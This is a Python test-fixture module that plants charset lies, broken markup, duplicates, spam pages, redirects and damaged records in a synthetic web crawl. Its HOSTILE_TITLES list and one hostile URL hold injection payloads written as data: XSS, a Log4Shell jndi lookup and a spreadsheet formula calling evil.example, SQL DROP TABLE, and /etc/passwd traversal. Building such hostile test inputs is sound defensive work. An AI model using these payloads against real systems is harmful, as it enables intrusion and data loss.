"""What is planted in the example crawl: lies, damage, copies, junk, and all that a crawl holds besides pages.

The kinds carry the names that the truth gives them in `dirt`.
"""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import dirt
from crawl import HOSTS, OTHER_HOST, Crawl, Page
from warc_writer import NOT_MODIFIED

IMAGES = (
    "left.gif", "right.gif", "up.gif", "down.gif", "pixel.gif", "index.gif", "home.gif", "sub.gif",
    "ssl_intro_fig1.gif", "ssl_intro_fig2.gif", "ssl_intro_fig3.gif", "ssl_intro_fig1.png", "ssl_intro_fig2.png",
    "ssl_intro_fig3.png", "mod_filter_old.gif", "mod_filter_new.gif", "mod_filter_old.png", "mod_filter_new.png",
    "mod_filter_new.tr.png", "filter_arch.png", "filter_arch.tr.png", "filter_arch.pt-br.png", "caching_fig1.gif",
    "caching_fig1.png", "caching_fig1.tr.png", "reverse-proxy-arch.png", "custom_errordocs.png",
    "rewrite_simplified_overview.png", "rewrite_module_order.png", "rewrite_backreferences.png", "build_a_mod_4.png",
)  # fmt: skip
RECODED = (  # kind of lie, charset of the bytes, what the header says, what the meta element says, language
    ("hdr_wrong_meta_ok", "euc-jp", "utf-8", "euc-jp", "ja"),
    ("hdr_wrong_meta_ok", "windows-1254", "utf-8", "windows-1254", "tr"),
    ("hdr_wrong_meta_missing", "shift_jis", "windows-1252", None, "ja"),
    ("hdr_wrong_meta_missing", "windows-1252", "utf-8", None, "fr"),
    ("hdr_missing_meta_ok", "iso-8859-15", None, "iso-8859-15", "fr"),
    ("hdr_missing_meta_ok", "gb18030", None, "gb18030", "zh"),
    ("hdr_ok_meta_wrong", "windows-1254", "windows-1254", "iso-8859-1", "tr"),
    ("hdr_ok_meta_wrong", "utf-8", "utf-8", "iso-8859-1", "ko"),
    ("both_missing", "euc-jp", None, None, "ja"),
    ("both_missing", "windows-1252", None, None, "fr"),
    ("both_missing", "koi8-r", None, None, "ru"),
    ("both_missing", "utf-8", None, None, "ja"),
)
BROKEN = ("unclosed_tags", "unquoted_attrs", "no_head", "truncated_midtag", "nul_bytes", "bom_mid")
JUNK = ("lorem", "word_salad", "symbols", "keyword_spam", "link_farm", "thin", "repeat_line", "truncated_lines")
NEAR = (("light", 0.03), ("medium", 0.15), ("heavy", 0.5), ("chrome_only", 0.0))
HOSTILE_TITLES = (
    "&lt;/title&gt;&lt;script&gt;alert(document.domain)&lt;/script&gt;",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "=HYPERLINK(&quot;https://evil.example&quot;) \u202egpj.exe \x1b[31m ${jndi:ldap://evil.example/a}",
    "{{7*7}} '; DROP TABLE documents; -- ../../../../etc/passwd",
)


def copy_of(page: Page, url: str) -> dict[str, Any]:
    return {"url": url, "dup_of": page.url, "same_bytes_as": [page.url]}


def plant_pages(crawl: Crawl) -> None:
    """Charsets that lie, broken markup, hostile titles, bodies whose headers are wrong."""
    for kind, charset, header, meta, lang in RECODED:
        page = crawl.take(lang)
        crawl.page(page, f"charset:{kind}", text=dirt.with_meta(page.text, meta), charset=charset, header=header)
    for kind in BROKEN:
        page = crawl.take("en" if kind == "no_head" else None, holding="<h2")
        crawl.page(page, f"broken:{kind}", text=dirt.broken(kind, page.text, crawl.rng))
    page = crawl.take("fr")
    spoilt = page.text.encode().replace(b". ", b". \xff\xfe ", 3).replace(b"\xc3\xa9", b"\xe9", 5)
    crawl.add(page.url, spoilt, "text/html; charset=utf-8", "html", "ok", "broken:invalid_utf8", charset_true="utf-8",
              charset_header="utf-8", lang="fr", lang_declared="fr")  # fmt: skip
    page = crawl.take("en")
    crawl.page(page, "deep_nesting", text=dirt.deep(page.text, 20_000))
    for title in HOSTILE_TITLES:
        page = crawl.take("en")
        crawl.page(page, "hostile:title", text=dirt.with_title(page.text, title))
    page = crawl.take("en")
    crawl.page(page, "hostile:url", url=page.url + '?q="><svg/onload=alert(1)>&f=../../../etc/passwd')
    for transfer in (("claimed:gzip",), ("claimed:chunked",)):
        crawl.page(crawl.take("en"), "encoding:declared_not_applied", transfer=transfer)
    crawl.page(crawl.take("en"), "encoding:body_cut", transfer=("gzip",), cut_encoded=900, quality="n/a")
    crawl.page(crawl.take("en"), "length:http_longer", content_length=5_000, transfer=())
    crawl.page(crawl.take("en"), "length:http_shorter", content_length=-150, transfer=())
    for damage in ("gzip_member", "warc_longer", "warc_shorter"):
        for lang in ("en", "fr"):
            crawl.page(crawl.take(lang), f"damage:{damage}", damage=damage, quality="n/a", transfer=())


def plant_copies(crawl: Crawl) -> None:
    """Exact duplicates under other URLs, near duplicates with their Jaccard, the same page crawled twice."""
    for i in range(4):
        pages = [crawl.take(lang) for lang in ("en", "fr", "ja", "ko", "tr")]
        host, path = pages[0].url.removeprefix("https://").split("/", 1)
        session = hashlib.md5(pages[2].url.encode()).hexdigest()[:16]
        copies = (
            (pages[0], "http", f"http://www.{host}/{path}"),
            (pages[1], "utm", f"{pages[1].url}?utm_source=newsletter&utm_medium=email"),
            (pages[2], "session", f"{pages[2].url};jsessionid={session}"),
            (pages[3], "mirror", pages[3].url.replace("https://", f"https://mirror{i}.")),
            (pages[4], "print", f"{pages[4].url}?print=1"),
        )
        for page, kind, url in copies:
            crawl.page(page)
            crawl.page(page, f"exact_dup:{kind}", **copy_of(page, url))
    for page in [page for page in crawl.spare if page.path.endswith("/index.html")][:3]:
        crawl.spare.remove(page)
        crawl.page(page)
        crawl.page(page, "exact_dup:index", **copy_of(page, page.url.removesuffix("index.html")))
    for name, value, kind in (("raw", "text/plain; charset=utf-8", "html_as_text_plain"), ("noai", "", "x_robots_tag")):
        for _ in range(2):
            page = crawl.take("en")
            crawl.page(page, header="utf-8")
            more = copy_of(page, f"{page.url}?{name}=1")
            more |= {"content_type": value} if value else {"headers": (("X-Robots-Tag", "noai, noindex"),)}
            crawl.page(page, kind, header="utf-8", **more)
    for lang in ("en", "fr", "tr", "es"):
        texts = [dirt.blocks(page.text) for page in crawl.pages if page.lang == lang]
        donors = [line for lines in texts for line in lines if len(line) > 120]
        for kind, share in NEAR:
            page = crawl.take(lang, holding="<p>")
            crawl.page(page)
            text = dirt.edited(page.text, share, donors, crawl.rng) if share else page.text
            text = dirt.other_chrome(text, "Copied manuals")
            crawl.page(page, f"near_dup:{kind}", text=text, url=page.url.replace("https://", "https://copy.") + "?v=2",
                       near_dup_of=page.url, jaccard_main=round(dirt.jaccard(page.text, text), 3))  # fmt: skip
    page = crawl.take("en")
    crawl.page(page)
    crawl.page(page, "recrawl:same", url=page.url, dup_of=page.url, same_bytes_as=[page.url], transfer=())


def plant_junk(crawl: Crawl, each: int) -> None:
    """Pages that should be dropped."""
    by_lang = [page for page in crawl.pages if page.lang in ("en", "fr", "es")]
    for number, kind in enumerate(JUNK * each):
        page = by_lang[number * 7 % len(by_lang)]
        text = dirt.junk(kind, [line for line in dirt.blocks(page.text) if len(line) > 40], crawl.rng)
        derived = kind in ("word_salad", "repeat_line", "truncated_lines")
        url = f"https://spam{number % 4}.cheap-deals.example/p/{crawl.rng.randrange(10**6, 10**7)}.html"
        crawl.add(url, text.encode(), "text/html; charset=utf-8", "html", "junk", f"junk:{kind}", charset_true="utf-8",
                  charset_header="utf-8", lang=page.true_lang if derived else "und")  # fmt: skip
    for i in range(2 * each):
        host = (HOSTS["en"], HOSTS["fr"], OTHER_HOST)[i % 3]
        crawl.add(f"https://{host}/docs/2.2/gone-{i}.html", dirt.junk("soft_404", (), crawl.rng).encode(),
                  "text/html; charset=utf-8", "html", "junk", "soft_404", charset_true="utf-8",
                  charset_header="utf-8", lang="en")  # fmt: skip
    for i in range(each):
        crawl.add(f"https://empty{i}.example/", b"", "text/html; charset=utf-8", "html", "junk", "empty_body",
                  lang="und")  # fmt: skip


def plant_rest(crawl: Crawl, root: Path) -> None:
    """Images, files that are no pages, redirects, errors and revisits."""
    host = HOSTS["en"]
    for i, name in enumerate(IMAGES):
        data, kind = (root / "images" / name).read_bytes(), "image/" + name.rpartition(".")[2]
        dirts = ("image_truncated",) if i in (5, 26) else ("image_wrong_ctype",) if i in (9, 20) else ()
        dirts = ("image_generic_ctype",) if i in (12, 22) else dirts
        kind = "image/jpeg" if "image_wrong_ctype" in dirts else kind
        kind = "application/octet-stream" if "image_generic_ctype" in dirts else kind
        data = data[: len(data) // 2] if "image_truncated" in dirts else data
        crawl.add(f"https://{host}/docs/2.4/images/{name}", data, kind, "image", "n/a", *dirts)
    sorry = b"<html><head><title>Hotlinking</title></head><body><p>Images are for members only.</p></body></html>"
    for name in ("feather.png", "apache_header.gif"):
        url = f"https://{host}/docs/2.4/images/{name}"
        crawl.add(url, sorry, "text/html", "other", "n/a", "image_url_returns_html")
    style = (root / "style/css/manual.css").read_bytes()
    crawl.add(f"https://{host}/docs/2.4/style/css/manual.css", style, "text/css", "other", "n/a", "non_html")
    for name in ("rewrite_module_order.svg", "mod_rewrite_fig1.svg"):
        data = (root / "images" / name).read_bytes()
        crawl.add(f"https://{host}/docs/2.4/images/{name}", data, "image/svg+xml", "other", "n/a", "non_html")
    for name in (*dict.fromkeys(HOSTS.values()), OTHER_HOST):
        crawl.add(f"https://{name}/robots.txt", b"User-agent: *\nDisallow: /cgi-bin/\n", "text/plain", "other", "n/a",
                  "non_html")  # fmt: skip
    crawl.add(f"https://{host}/api/status", b'{"status": "ok", "workers": 8}\n', "application/json", "other", "n/a",
              "non_html")  # fmt: skip
    crawl.add(f"dns:{host}", b"20260112060000\nhttpd-manual.example. 300 IN A 192.0.2.80\n", "text/dns", "other", "n/a",
              "non_html", type="resource", transfer=())  # fmt: skip
    for i, status in enumerate((301, 302, 307, 308, 301)):
        to = crawl.pages[i].url
        here, moved = to.removesuffix(".html") + f"/r{i}", b'<a href="%b">moved</a>' % to.encode()
        crawl.add(here, moved, "text/html", "html", "n/a", "redirect", status=status, headers=(("Location", to),),
                  redirect_to=to)  # fmt: skip
    for here, there in (("a", "b"), ("b", "a")):
        to = f"https://loop.{host}/{there}"
        crawl.add(f"https://loop.{host}/{here}", b"", "text/html", "html", "n/a", "redirect_loop", status=302,
                  headers=(("Location", to),), redirect_to=to)  # fmt: skip
    for i, status in enumerate((404, 404, 410, 503, 404)):
        text = b"<html><head><title>%d</title></head><body><h1>Error</h1><hr></body></html>" % status
        crawl.add(f"https://{host}/missing/{i}", text, "text/html; charset=iso-8859-1", "html", "n/a", "http_error",
                  status=status, lang="en")  # fmt: skip
    for i, first in enumerate(list(crawl.plain.values())[:4]):
        unchanged = i == 3
        again = crawl.add(first.url, b"", None if unchanged else first.content_type, "revisit", "n/a", "revisit",
                          status=304 if unchanged else 200, transfer=(), type="revisit")  # fmt: skip
        again.revisit_of = first
        again.profile = NOT_MODIFIED if unchanged else again.profile
